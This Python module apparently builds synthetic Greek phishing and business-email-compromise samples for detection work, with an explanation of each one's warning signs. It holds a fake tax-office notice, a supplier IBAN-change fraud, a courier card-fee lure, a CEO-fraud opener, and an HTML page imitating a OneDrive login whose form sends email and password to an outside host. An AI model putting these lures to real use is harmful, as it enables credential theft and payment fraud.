"""Greek attack messages (32-36)."""
from common import *  # noqa
from banking import iban, spaced
from providers import brevo, vps_postfix
from routes import Webmail, Gmail, roundcube, phpmailer, hop_exim_local, hop_postfix_sub
from util import rfcdate

MESSAGES = []

# ------------------------------------------------------------------ 32 AADE / myDATA
u32 = 'https://aade-mydata-gov.gr/myDATA/diastavrosi?afm=80*****40&ref=2026DELT118734'
t32 = """ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
Ηλεκτρονικά Βιβλία - myDATA

Αρ. Πρωτ.: 2026/ΔΕΛΤ/118734

Αξιότιμε/η κύριε/κυρία,

Κατά τη διασταύρωση των δεδομένων της πλατφόρμας myDATA για το Γ΄ τρίμηνο 2026 εντοπίστηκαν αποκλίσεις μεταξύ των παραστατικών που διαβιβάστηκαν από τους αντισυμβαλλομένους σας και των χαρακτηρισμών εξόδων της επιχείρησής σας (ΑΦΜ 80*****40).

Σύμφωνα με το άρθρο 54 του Κώδικα Φορολογικής Διαδικασίας (ν. 4987/2022), η μη διόρθωση των αποκλίσεων εντός πέντε (5) εργάσιμων ημερών από την παραλαβή της παρούσας συνεπάγεται την επιβολή προστίμου.

Για να δείτε τα αναλυτικά στοιχεία της διασταύρωσης και να υποβάλετε τις διορθώσεις, συνδεθείτε με τους κωδικούς σας TAXISnet:
{u}

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων

Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.""".format(u=u32)
h32 = h_notice('UTF-8', 'Ειδοποίηση αποκλίσεων myDATA', [
    'Αρ. Πρωτ.: 2026/ΔΕΛΤ/118734',
    'Αξιότιμε/η κύριε/κυρία,',
    'Κατά τη διασταύρωση των δεδομένων της πλατφόρμας myDATA για το Γ΄ τρίμηνο 2026 εντοπίστηκαν αποκλίσεις μεταξύ των παραστατικών που διαβιβάστηκαν από τους αντισυμβαλλομένους σας και των χαρακτηρισμών εξόδων της επιχείρησής σας (ΑΦΜ 80*****40).',
    'Σύμφωνα με το άρθρο 54 του Κώδικα Φορολογικής Διαδικασίας (ν. 4987/2022), η μη διόρθωση των αποκλίσεων εντός <b>πέντε (5) εργάσιμων ημερών</b> από την παραλαβή της παρούσας συνεπάγεται την επιβολή προστίμου.'],
    button=('Σύνδεση με κωδικούς TAXISnet', u32), color='#003476', brand='ΑΑΔΕ', lang='el',
    footer='Ανεξάρτητη Αρχή Δημοσίων Εσόδων<br>Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.')
MESSAGES.append(dict(
    slug='aade-mydata-taxisnet',
    frm=('ΑΑΔΕ myDATA', 'noreply@aade-mydata-gov.gr'), to=[S['acc_gr']],
    subject='ΑΑΔΕ: Ειδοποίηση αποκλίσεων myDATA - Αρ. Πρωτ. 2026/ΔΕΛΤ/118734',
    date='2026-10-20 10:33:12', zone='GR', date_zone='UTC',
    via=brevo('bnc.aade-mydata-gov.gr'),
    body=alt(Text(t32, 'UTF-8', 'base64'), Text(h32, 'UTF-8', 'base64', 'html')),
    what='Tax-office phishing: fake AADE myDATA discrepancy notice with fine threat, link to a fake TAXISnet login.',
    why='AADE sends from aade.gr and notifications appear in myAADE; look-alike domain aade-mydata-gov.gr sent via Brevo, TAXISnet credential harvesting, 5-day fine pressure.',
    tech=['credential phishing: national tax office / e-invoicing (AADE myDATA, TAXISnet)', 'bulk ESP abuse (Brevo)', 'look-alike domain'],
))

# ------------------------------------------------------------------ 33 look-alike supplier: bank change to Cyprus
CY33 = iban('CY', '002' + '00195' + '0000357019283746')
t33 = """Καλημέρα κυρία Γεωργίου,

σας ενημερώνουμε ότι, λόγω του ετήσιου ελέγχου συμμόρφωσης που διενεργεί η τράπεζά μας, ο λογαριασμός μας στην Τράπεζα Πειραιώς δεν δέχεται προσωρινά εισερχόμενα εμβάσματα από εταιρικούς πελάτες. Μέχρι την ολοκλήρωση του ελέγχου, παρακαλούμε οι πληρωμές σας να γίνονται στον λογαριασμό της θυγατρικής μας στη Λευκωσία:

Δικαιούχος: AEGEAN FISH TRADING LTD
IBAN: {iban}
BIC: BCYPCY2N

Σας επισυνάπτουμε την κατάσταση ανοιχτών τιμολογίων (3 τιμολόγια, σύνολο 38.412,60 €). Θα σας ήμασταν ευγνώμονες αν μπορούσατε να προχωρήσετε στην εξόφληση έως την Παρασκευή, καθώς κλείνουμε τον μήνα με τους ελεγκτές.

Για οποιαδήποτε διευκρίνιση είμαι στη διάθεσή σας μέσω email, γιατί αυτές τις μέρες βρίσκομαι στις μονάδες μας στο Αιτωλικό με περιορισμένο σήμα.

Με εκτίμηση,

Νίκος Αντωνίου
Τμήμα Εξαγωγών
Aegean Fish Farms Α.Ε.
Τ. +30 26320 55 410""".format(iban=spaced(CY33))
st33 = letter_pdf([
    ('b', 'AEGEAN FISH FARMS S.A.'), ('s', 'Aitoliko, 30400 Aitoloakarnania, Greece - VAT EL 099 812 445'), '',
    ('h', 'Statement of open invoices / Katastasi anoikton timologion'), '',
    ('t', [(0, 'Invoice'), (120, 'Date'), (220, 'Due'), (360, 'Amount EUR')]),
    ('t', [(0, 'TP-A 4302'), (120, '22.10.2026'), (220, '21.11.2026'), (360, '14.106,20')]),
    ('t', [(0, 'TP-A 4355'), (120, '29.10.2026'), (220, '28.11.2026'), (360, '12.870,00')]),
    ('t', [(0, 'TP-A 4391'), (120, '05.11.2026'), (220, '05.12.2026'), (360, '11.436,40')]),
    ('t', [(0, 'Total'), (360, '38.412,60')]), '',
    'Payment to: AEGEAN FISH TRADING LTD', 'IBAN ' + spaced(CY33), 'BIC BCYPCY2N',
], 'Statement open items', 'N. Antoniou', creator='Microsoft Excel', producer='Microsoft: Print To PDF',
    pdfdate="20261111093012+02'00'")
MESSAGES.append(dict(
    slug='aegean-lookalike-cyprus-account',
    frm=('Νίκος Αντωνίου', 'n.antoniou@aegeanfishfarm.gr'), to=[S['acc_gr']], cc=[S['mgr_gr']],
    subject='Αλλαγή λογαριασμού πληρωμών - ανοιχτά τιμολόγια Νοεμβρίου',
    date='2026-11-11 09:41:27', zone='GR',
    via=vps_postfix('mail.aegeanfishfarm.gr', 'static.201.88.108.65.clients.your-server.de', '65.108.88.201',
                    zone='GR', lang='el', hdr_cs='windows-1253', hdr_enc='B', user_ip='185.244.214.17'),
    body=mixed(alt(Text(t33, 'windows-1253', 'quoted-printable'), Text(h_outlook(t33, 'windows-1253', 'EL'), 'windows-1253', 'quoted-printable', 'html')),
               Att('Katastasi_anoikton_timologion.pdf', 'application/pdf', st33)),
    what='Supplier bank-detail change from a look-alike of the fish-farm supplier (aegeanfishfarm.gr without "s"): pay three open invoices to a "Cypriot subsidiary" account by Friday.',
    why='Look-alike domain on a Hetzner VPS, beneficiary is a different legal entity abroad, bank "audit" excuse, deadline, e-mail-only contact.',
    tech=['BEC / supplier bank-detail change', 'look-alike domain', 'VPS infrastructure'],
))

# ------------------------------------------------------------------ 34 ACS courier fee (compromised WordPress)
u34 = 'https://acs-courier-gr.delivery-track.info/el/pay?awb=7412558031'
t34 = """Αγαπητέ πελάτη,

Η αποστολή σας με αριθμό 7412558031 δεν κατέστη δυνατό να παραδοθεί, διότι η διεύθυνση παράδοσης είναι ελλιπής και εκκρεμεί η πληρωμή τέλους επαναδρομολόγησης ύψους 1,85 €.

Παρακαλούμε επιβεβαιώστε τη διεύθυνση και ολοκληρώστε την πληρωμή εντός 24 ωρών, διαφορετικά το δέμα θα επιστραφεί στον αποστολέα:
{u}

Ευχαριστούμε που επιλέξατε την ACS.
ACS Courier""".format(u=u34)
h34 = h_notice('UTF-8', 'Η αποστολή σας βρίσκεται σε αναμονή', [
    'Αγαπητέ πελάτη,',
    'Η αποστολή σας με αριθμό <b>7412558031</b> δεν κατέστη δυνατό να παραδοθεί, διότι η διεύθυνση παράδοσης είναι ελλιπής και εκκρεμεί η πληρωμή τέλους επαναδρομολόγησης ύψους <b>1,85 €</b>.',
    'Παρακαλούμε επιβεβαιώστε τη διεύθυνση και ολοκληρώστε την πληρωμή εντός 24 ωρών, διαφορετικά το δέμα θα επιστραφεί στον αποστολέα.'],
    button=('Επιβεβαίωση και πληρωμή', u34), color='#e30613', brand='ACS', lang='el',
    footer='ACS Courier Α.Ε.Ε.')
MESSAGES.append(dict(
    slug='acs-courier-telos',
    frm=('ACS Courier', 'info@acscourier-gr.info'), to=[S['mgr_gr']],
    subject='ACS: Η αποστολή 7412558031 βρίσκεται σε αναμονή',
    date='2026-11-19 18:22:40', zone='GR',
    via=phpmailer(('s12.grserver.gr', 's12.grserver.gr', '185.138.42.112'),
                  [hop_exim_local('kafeamorgos', 's12.grserver.gr', 'GR', 'kafeamorgos@s12.grserver.gr')],
                  'kafe-amorgos.gr',
                  extra=[('X-AntiAbuse', 'This header was added to track abuse, please include it with any abuse report'),
                         ('X-AntiAbuse', 'Primary Hostname - s12.grserver.gr'),
                         ('X-Get-Message-Sender-Via', 's12.grserver.gr: authenticated_id: kafeamorgos/from_h')],
                  rp=lambda c: 'kafeamorgos@s12.grserver.gr'),
    body=alt(Text(t34, 'UTF-8', 'quoted-printable'), Text(h34, 'UTF-8', 'quoted-printable', 'html')),
    what='Courier phishing: fake ACS notice of a parcel awaiting a 1.85 EUR re-delivery fee, link to a card-payment page.',
    why='Sent by a PHP script on a compromised Greek café website host, look-alike From domain acscourier-gr.info, link to delivery-track.info, small fee to harvest card data.',
    tech=['courier phishing (card data)', 'compromised web host (PHPMailer/cPanel)', 'look-alike domain'],
))

# ------------------------------------------------------------------ 35 RFQ with HTML attachment (compromised hotel mailbox)
html35 = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>RFQ 2027 - Minos Bay Hotels</title>
<style>body{margin:0;background:#f3f2f1;font-family:Segoe UI,Arial,sans-serif}
.top{background:#0364b8;color:#fff;padding:12px 20px;font-size:16px}
.wrap{width:380px;margin:60px auto;background:#fff;padding:34px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 2px;margin:8px 0;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 28px;font-size:15px;margin-top:12px}</style></head>
<body><div class="top">OneDrive &middot; Κοινόχρηστο έγγραφο</div>
<div class="wrap"><p style="font-size:20px;margin-top:0">RFQ_Season_2027_Seafood.xlsx</p>
<p style="font-size:13px">Η Μαρία Κατσαράκη μοιράστηκε ένα αρχείο μαζί σας. Για λόγους ασφαλείας επιβεβαιώστε τον εταιρικό σας λογαριασμό για να το δείτε.</p>
<form method="post" action="https://minosbay-rfq.sharefile-docs.net/auth/el">
<input type="email" name="email" placeholder="Διεύθυνση email">
<input type="password" name="pass" placeholder="Κωδικός πρόσβασης">
<button type="submit">Προβολή εγγράφου</button></form>
<p style="font-size:11px;color:#777">&copy; Microsoft 2026</p></div></body></html>
"""
t35 = """Αξιότιμοι κύριοι,

Ο όμιλός μας (τέσσερα ξενοδοχεία στο Ηράκλειο και στη Χερσόνησο, 1.850 κλίνες) προετοιμάζει τις προμήθειες για τη σεζόν 2027 και θα θέλαμε να λάβουμε προσφορά για:

- νωπή τσιπούρα και λαβράκι ιχθυοτροφείου, 400-600 γρ.
- κατεψυγμένα καλαμάρια και γαρίδες
- φιλέτο σολομού νωπό

με εβδομαδιαίες παραδόσεις από Απρίλιο έως Οκτώβριο. Οι ποσότητες ανά μονάδα και οι προδιαγραφές περιλαμβάνονται στο συνημμένο έγγραφο RFQ, το οποίο ανοίγει απευθείας στον browser.

Παρακαλούμε υποβάλετε την προσφορά σας έως 15/12/2026.

Με εκτίμηση,

Μαρία Κατσαράκη
Υπεύθυνη Προμηθειών
Minos Bay Hotels & Resorts
Λεωφόρος Ικάρου 88, 71307 Ηράκλειο"""
MESSAGES.append(dict(
    slug='rfq-html-attachment-greek',
    frm=('Μαρία Κατσαράκη', 'procurement@minosbayhotels.gr'), to=[S['mgr_gr']],
    subject='Αίτηση προσφοράς - προμήθεια αλιευμάτων σεζόν 2027',
    date='2026-11-26 12:07:33', zone='GR',
    via=roundcube(('cp17.topnet-hosting.gr', 'cp17.topnet-hosting.gr', '94.130.158.17'),
                  [hop_postfix_sub('cp17.topnet-hosting.gr', 'localhost', '127.0.0.1', 'cp17.topnet-hosting.gr', 'GR',
                                   proto='ESMTPA', tls=False)],
                  'minosbayhotels.gr', ver='1.6.8'),
    body=mixed(Text(t35, 'iso-8859-7', 'quoted-printable'),
               Att('RFQ_2027_Minos_Bay.html', 'text/html', html35.encode('utf-8'), charset='UTF-8')),
    what='Request-for-quotation lure from a compromised Cretan hotel group mailbox: the "RFQ" is an HTML file imitating a OneDrive share that asks for the company e-mail password.',
    why='HTML attachment with a credential form posting to sharefile-docs.net, RFQ "opens in the browser", compromised hotel webmail; a genuine RFQ would be a spreadsheet/PDF without login.',
    tech=['HTML attachment (credential form)', 'RFQ / purchase-order pretext', 'compromised small-business mailbox', 'credential phishing: Microsoft 365'],
))

# ------------------------------------------------------------------ 36 manager impersonation -> WhatsApp
t36 = """Ελένη καλημέρα,

είσαι στο γραφείο; Θέλω να σου αναθέσω κάτι επείγον και εμπιστευτικό σήμερα, πριν κλείσουν οι τράπεζες. Είμαι σε σύσκεψη με τους ελεγκτές και δεν μπορώ να μιλήσω στο τηλέφωνο.

Στείλε μου σε παρακαλώ το κινητό σου να συνεχίσουμε στο WhatsApp. Μην το συζητήσεις ακόμα με κανέναν.

Γιώργος

Στάλθηκε από το iPhone μου"""
MESSAGES.append(dict(
    slug='manager-impersonation-whatsapp',
    frm=('Γιώργος Παπαδόπουλος', 'g.papadopoulos.office@gmail.com'), to=[S['acc_gr']],
    subject='Επείγον',
    date='2026-12-10 09:12:58', zone='GR',
    via=Gmail('ej1', 41),
    body=alt(Text(t36, 'UTF-8', 'base64'), Text(h_gmail(t36), 'UTF-8', 'quoted-printable', 'html')),
    what='First-stage BEC: the Piraeus office manager\'s name on a Gmail address asks the accountant for her mobile number to continue "an urgent confidential task" on WhatsApp.',
    why='Manager name on free-mail, urgency before banks close, secrecy, cannot talk, move to WhatsApp to escape mail controls - classic CEO-fraud opener.',
    tech=['BEC / executive impersonation (move to WhatsApp)', 'free-mail display-name spoof (Gmail)'],
))
